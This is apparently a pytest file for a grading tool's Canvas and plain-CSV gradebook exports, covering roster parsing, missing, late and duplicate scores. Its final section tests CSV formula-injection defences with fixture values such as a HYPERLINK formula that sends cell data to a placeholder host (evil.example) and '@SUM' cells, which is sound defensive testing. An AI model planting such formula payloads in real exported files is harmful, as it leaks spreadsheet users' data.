"""The LMS exports: Canvas's gradebook import columns, the roster cases, the plain CSV."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from backprop_lab import cli
from backprop_lab.reports import lms


def result(student, assignment, score, max_score=10.0, error=None, path=None):
    return {"student": student, "assignment": assignment,
            "path": path or f"submitted/{student}/{assignment}/{assignment}.ipynb",
            "score": score, "max_score": max_score, "error": error, "tests": []}


ROSTER = ("nbgrader_id,Student,ID,SIS User ID,SIS Login ID,Section\n"
          "s01,\"Doe,\nJane\",101,2020001,jdoe,Section A\n"
          "s02,\"Roe, Rick\",102,2020002,rroe,Section B\n"
          "s03,\"Poe, Ann\",103,,apoe,Section A\n")


@pytest.fixture
def roster_file(tmp_path) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER, encoding="utf-8")
    return path


def write_results(tmp_path, results) -> Path:
    path = tmp_path / "grades.json"
    path.write_text(json.dumps({"submissions": results}), encoding="utf-8")
    return path


def read_csv(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_canvas_file_has_canvas_documented_columns_points_row_and_zeros(tmp_path, roster_file,
                                                                        capsys):
    results = [result("s01", "sigmoid", 7.5), result("s01", "relu", 10.0),
               result("s02", "relu", 4.0)]      # s02 sigmoid and all of s03 missing
    out = tmp_path / "canvas.csv"
    code = cli.main(["lms", "canvas", "--results", str(write_results(tmp_path, results)),
                     "--roster", str(roster_file), "--out", str(out)])
    assert code == 0
    rows = read_csv(out)
    # Canvas's importer: Student, ID first; SIS User ID and SIS Login ID; Section ends the
    # student columns; then one column per assignment, named by its title (course order)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                       "sigmoid", "relu"]
    assert rows[1] == ["Points Possible", "", "", "", "", "10", "10"]
    assert rows[2] == ["Doe,\nJane", "101", "2020001", "jdoe", "Section A", "7.5", "10"]
    assert rows[3] == ["Roe, Rick", "102", "2020002", "rroe", "Section B", "0", "4"]
    assert rows[4] == ["Poe, Ann", "103", "", "apoe", "Section A", "0", "0"]
    assert len(rows) == 5
    err = capsys.readouterr().err
    assert "missing, scored 0: s02 / sigmoid" in err
    assert "missing, scored 0: s03 / relu" in err


def test_unmatched_student_is_reported_and_exit_code_says_so(tmp_path, roster_file, capsys):
    results = [result("s01", "relu", 10.0), result("s99", "relu", 3.0),
               {**result(None, "relu", 2.0), "path": "loose/relu.ipynb"}]
    out = tmp_path / "canvas.csv"
    code = cli.main(["lms", "canvas", "--results", str(write_results(tmp_path, results)),
                     "--roster", str(roster_file), "--out", str(out)])
    assert code == 1
    err = capsys.readouterr().err
    assert "NOT IN THE FILE: s99 / relu" in err
    assert "NOT IN THE FILE: (no student id) / relu (loose/relu.ipynb)" in err
    assert [r[0] for r in read_csv(out)[2:]] == ["Doe,\nJane", "Roe, Rick", "Poe, Ann"]


def test_ungraded_submission_scores_zero_and_is_reported(tmp_path, roster_file):
    results = [result("s01", "relu", 0.0, max_score=0.0, error="broken JSON"),
               result("s02", "relu", 6.0)]
    book = lms.build_gradebook(results, lms.read_roster(roster_file))
    assert book.grades[("s01", "relu")] == lms.Cell(0.0, "ungraded")
    assert book.points["relu"] == 10.0          # from graded submissions only
    assert book.ungraded() == [("s01", "relu")]
    assert ("s03", "relu") in book.missing()
    assert any("could not be graded, scored 0: s01 / relu" in p
               for p in lms.problems(book, None))


def test_canvas_export_used_as_roster(tmp_path):
    """A Canvas gradebook export with an nbgrader_id column added: its Points Possible row,
    its Test Student (no nbgrader_id) and its other columns are skipped, the skip reported."""
    path = tmp_path / "export.csv"
    path.write_text(
        "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (555),nbgrader_id\n"
        "    Points Possible,,,,,5,\n"
        "\"Student, Test\",999,,,Section A,,\n"
        "\"Doe, Jane\",101,2020001,jdoe,Section A,4,s01\n", encoding="utf-8")
    roster = lms.read_roster(path)
    assert roster.entries == [lms.RosterEntry("s01", "Doe, Jane", "101", "2020001", "jdoe",
                                              "Section A")]
    assert roster.skipped == ["line 3: Student, Test"]


def test_roster_errors_are_plain(tmp_path):
    no_id = tmp_path / "a.csv"
    no_id.write_text("Student,ID\nx,1\n", encoding="utf-8")
    with pytest.raises(lms.LmsError, match="no 'nbgrader_id' column"):
        lms.read_roster(no_id)
    twice = tmp_path / "b.csv"
    twice.write_text("nbgrader_id,ID\ns1,1\ns1,2\n", encoding="utf-8")
    with pytest.raises(lms.LmsError, match="lists s1 twice"):
        lms.read_roster(twice)


def test_later_result_replaces_earlier_and_is_reported(tmp_path, roster_file):
    results = [result("s01", "relu", 2.0), result("s01", "relu", 9.0)]
    book = lms.build_gradebook(results, lms.read_roster(roster_file))
    assert book.grades[("s01", "relu")].score == 9.0
    assert book.duplicates == [results[0]]


def test_plain_without_roster_has_every_student_of_the_results(tmp_path):
    results = [result("b", "relu", 2.0), result("a", "sigmoid", 3.5, max_score=4.0)]
    out = tmp_path / "plain.csv"
    code = cli.main(["lms", "plain", "--results", str(write_results(tmp_path, results)),
                     "--out", str(out), "--title", "relu=ReLU lab"])
    assert code == 0
    assert read_csv(out) == [["nbgrader_id", "lms_id", "name", "sigmoid", "ReLU lab"],
                             ["a", "", "", "3.5", "0"],
                             ["b", "", "", "0", "2"]]


def test_canvas_needs_a_roster_and_output_is_not_overwritten(tmp_path, roster_file, capsys):
    res = write_results(tmp_path, [result("s01", "relu", 1.0)])
    out = tmp_path / "canvas.csv"
    assert cli.main(["lms", "canvas", "--results", str(res), "--out", str(out)]) == 2
    assert "needs --roster" in capsys.readouterr().err
    out.write_text("keep", encoding="utf-8")
    assert cli.main(["lms", "canvas", "--results", str(res), "--roster", str(roster_file),
                     "--out", str(out)]) == 2
    assert out.read_text(encoding="utf-8") == "keep"
    assert cli.main(["lms", "canvas", "--results", str(res), "--roster", str(roster_file),
                     "--out", str(out), "--force"]) == 0
    assert read_csv(out)[0][0] == "Student"


def test_results_that_are_not_grade_json_are_refused(tmp_path):
    bad = tmp_path / "x.json"
    bad.write_text(json.dumps({"submissions": [{"assignment": "relu"}]}), encoding="utf-8")
    with pytest.raises(lms.LmsError, match="lacks an assignment, score or max_score"):
        lms.load_results(bad)


def test_late_policy_in_canvas_and_plain(tmp_path, roster_file):
    for student, stamp in (("s01", "2026-10-12 21:00:00.000000 UTC"),
                           ("s02", "2026-10-14 09:00:00.000000 UTC")):
        folder = tmp_path / "submitted" / student / "relu"
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    policy = tmp_path / "late_policy.toml"
    policy.write_text('timezone = "UTC"\npenalty_per_day = 0.1\n'
                      '[deadlines]\nrelu = "2026-10-12 23:59"\n', encoding="utf-8")
    res = write_results(tmp_path, [result("s01", "relu", 8.0), result("s02", "relu", 8.0)])
    common = ["--results", str(res), "--roster", str(roster_file), "--late-policy",
              str(policy), "--submitted", str(tmp_path / "submitted")]
    assert cli.main(["lms", "canvas", *common, "--out", str(tmp_path / "c.csv"),
                     "--late-csv", str(tmp_path / "late.csv")]) == 0
    rows = read_csv(tmp_path / "c.csv")
    assert [r[5] for r in rows[2:]] == ["8", "6", "0"]      # s02 two days late: -2 of 10
    assert cli.main(["lms", "plain", *common, "--out", str(tmp_path / "p.csv")]) == 0
    plain = read_csv(tmp_path / "p.csv")
    assert plain[0][3:] == ["relu", "relu raw", "relu late penalty"]
    assert plain[2] == ["s02", "rroe", "Roe, Rick", "6", "8", "2"]
    late = read_csv(tmp_path / "late.csv")
    assert late[2][:8] == ["s02", "relu", "2026-10-14T09:00:00+00:00",
                           "2026-10-12T23:59:00+00:00", "2", "8", "2", "6"]


# ---------------------------------------------------------------- formula injection

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def would_run(cell: str) -> bool:
    """A cell a spreadsheet would evaluate as a formula (OWASP's CSV injection triggers and
    their full-width forms); a plain number such as -2 or +3.5 is just a number."""
    import re
    if re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell):
        return False
    return cell.startswith(TRIGGERS)


FORMULA_IDS = ["+1+1", "-2+3", "@A1", "-2"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_ROSTER = ("nbgrader_id,Student,ID,SIS User ID,SIS Login ID,Section\n"
                  f"+1+1,\"{HYPERLINK.replace(chr(34), chr(34) * 2)}\",101,2020001,jdoe,+A\n"
                  "-2+3,@SUM(A1:A9),102,2020002,-rroe,Section B\n"
                  "@A1,\"\tPoe\",103,,apoe,Section A\n"
                  "-2,Minus Two,104,-2,mtwo,Section A\n")


def test_no_csv_cell_can_run_as_a_formula(tmp_path):
    """Student ids (folder names) and roster names that a spreadsheet would run land
    neutralised (a leading quote) in every CSV: the LMS files, the late CSV; the columns
    Canvas and Moodle match students by are the roster's, kept as they are."""
    roster = tmp_path / "roster.csv"
    roster.write_text(FORMULA_ROSTER, encoding="utf-8")
    for student in FORMULA_IDS:
        folder = tmp_path / "submitted" / student / "relu"
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text("2026-10-14 09:00:00 UTC", encoding="utf-8")
    policy = tmp_path / "late_policy.toml"
    policy.write_text('penalty_per_day = 0.1\n[deadlines]\nrelu = "2026-10-12 23:59"\n',
                      encoding="utf-8")
    res = write_results(tmp_path, [result(s, "relu", 8.0) for s in FORMULA_IDS])
    common = ["--results", str(res), "--roster", str(roster), "--late-policy", str(policy),
              "--submitted", str(tmp_path / "submitted"), "--title", "relu==1+1"]
    assert cli.main(["lms", "canvas", *common, "--out", str(tmp_path / "c.csv"),
                     "--late-csv", str(tmp_path / "late.csv")]) == 0
    assert cli.main(["lms", "plain", *common, "--out", str(tmp_path / "p.csv")]) == 0
    canvas, plain, late_rows = (read_csv(tmp_path / n) for n in ("c.csv", "p.csv", "late.csv"))
    matched = {(r, c) for r in range(2, 6) for c in (1, 2, 3)}   # ID, SIS User ID, Login ID
    for name, rows, keep in (("canvas", canvas, matched), ("plain", plain,
                                                          {(r, 1) for r in range(1, 5)}),
                             ("late", late_rows, set())):
        for r, row in enumerate(rows):
            for c, cell in enumerate(row):
                if (r, c) not in keep:
                    assert not would_run(cell), (name, r, c, cell)
    # names and ids keep their text after the quote; the ids Canvas matches are verbatim
    assert canvas[2][:5] == ["'" + HYPERLINK, "101", "2020001", "jdoe", "'+A"]
    assert canvas[3][:4] == ["'@SUM(A1:A9)", "102", "2020002", "-rroe"]
    assert canvas[0][5] == "'=1+1"
    assert [r[0] for r in plain[1:]] == ["'+1+1", "'-2+3", "'@A1", "-2"]
    assert plain[2][1] == "-rroe" and plain[4][1] == "mtwo"
    assert [r[0] for r in late_rows[1:]] == ["'+1+1", "'-2+3", "'@A1", "-2"]


def test_grade_csv_neutralises_formula_student_ids(tmp_path):
    import subprocess
    import sys
    import toy_course
    toy_course.make_course(tmp_path)
    for student in FORMULA_IDS:
        toy_course.write_submission(tmp_path, student)
    proc = subprocess.run([sys.executable, "-m", "backprop_lab", "grade", "submitted", "--hidden",
                           "--csv", "grades.csv", "--json", "grades.json", "--jobs", "2",
                           "--quiet"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    rows = read_csv(tmp_path / "grades.csv")
    assert sorted(r[0] for r in rows[1:]) == sorted(["'+1+1", "'-2+3", "'@A1", "-2"])
    assert not [c for row in rows for c in row if would_run(c)]
    # a regrade merges into the file by the same ids
    toy_course.write_submission(tmp_path, "+1+1", {"double": "def double(x):\n    return x\n"})
    proc = subprocess.run([sys.executable, "-m", "backprop_lab", "grade", "submitted/+1+1",
                           "--hidden", "--csv", "grades.csv", "--quiet"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    rows = read_csv(tmp_path / "grades.csv")
    assert len(rows) == 5 and [r[0] for r in rows].count("'+1+1") == 1
    scores = {r[0]: r[rows[0].index("score")] for r in rows[1:]}
    assert scores["'+1+1"] != scores["'-2+3"]
